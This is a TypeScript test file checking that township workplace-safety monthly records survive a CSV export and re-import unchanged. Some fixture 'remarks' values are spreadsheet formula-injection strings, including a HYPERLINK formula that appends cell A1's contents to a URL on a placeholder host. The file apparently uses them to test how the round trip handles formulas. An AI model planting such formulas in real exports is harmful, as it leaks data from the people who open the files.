import { describe, expect, it } from 'vitest';
import type { TownshipMonthRecord } from '../domain/records';
import { ingestBytes } from '../ingest/ingest-file';
import { townshipMonthRecord } from '../testing/factories';
import { csvBytes, recordsToTemplateCsv } from './csv';

const NUMS = {
  units_inspected: null,
  inspector_person_times: null,
  hazards_found: null,
  hazards_rectified: null,
  hazards_major_found: null,
  hazards_major_rectified: null,
  rectification_notices: null,
  penalty_cases: null,
  meetings_held: null,
  trainings_held: null,
  training_person_times: null,
  warning_edu_sessions: null,
  publicity_events: null,
  leaflets_distributed: null,
  drills_held: null,
  accidents: null,
  deaths: null,
  injuries: null,
  rectification_funds_10k_yuan: null,
  fines_10k_yuan: null,
  direct_loss_10k_yuan: null,
} as const;

const rec = (over: Partial<TownshipMonthRecord>): TownshipMonthRecord =>
  townshipMonthRecord('小召乡', '2022-04', NUMS, { source: { file: 'orig.csv', line: 2 }, ...over });

const RECORDS: TownshipMonthRecord[] = [
  rec({
    report_date: '2022-04-27',
    focus_sectors: ['fireworks', 'natural_hazards'],
    problems_text: '一是企业主体责任落实不到位，部分企业负责人安全意识淡薄；\n二是重安排轻落实。',
    next_steps_text: '继续开展"打非治违"专项行动, 加强巡查',
    remarks: '=HYPERLINK("http://x/?"&A1,"点击")',
    units_inspected: 36,
    hazards_found: 12,
    hazards_rectified: 10,
    hazards_major_found: 0,
    hazards_major_rectified: 0,
    trainings_held: 2,
    training_person_times: 1600,
    approx: ['training_person_times'],
    rectification_funds_10k_yuan: 1.5,
    accidents: 0,
    deaths: 0,
  }),
  rec({ township: '城关镇', period: '2022-04', remarks: '-5', hazards_found: 0, hazards_rectified: 0 }),
  rec({ township: '东关街道', period: '2022-03', remarks: '@SUM(1)\n备注', meetings_held: 1 }),
];

/** Records without provenance (the file name and line differ by design). */
const comparable = (rs: readonly TownshipMonthRecord[]) =>
  rs.map(({ source: _source, ...rest }) => ({ ...rest, approx: [...rest.approx].sort() }));

describe('template CSV export → import', () => {
  it('round-trips to the same records, formulas included', () => {
    const bytes = csvBytes(recordsToTemplateCsv(RECORDS));
    const result = ingestBytes(bytes, { fileName: 'export.csv', knownTownships: [], today: '2024-04-02' });
    expect(result.status).toBe('ok');
    expect(result.issues.filter((i) => i.severity === 'error')).toEqual([]);
    expect(result.counts.accepted).toBe(RECORDS.length);
    expect(comparable(result.townshipMonths)).toEqual(comparable(RECORDS));
  });
});
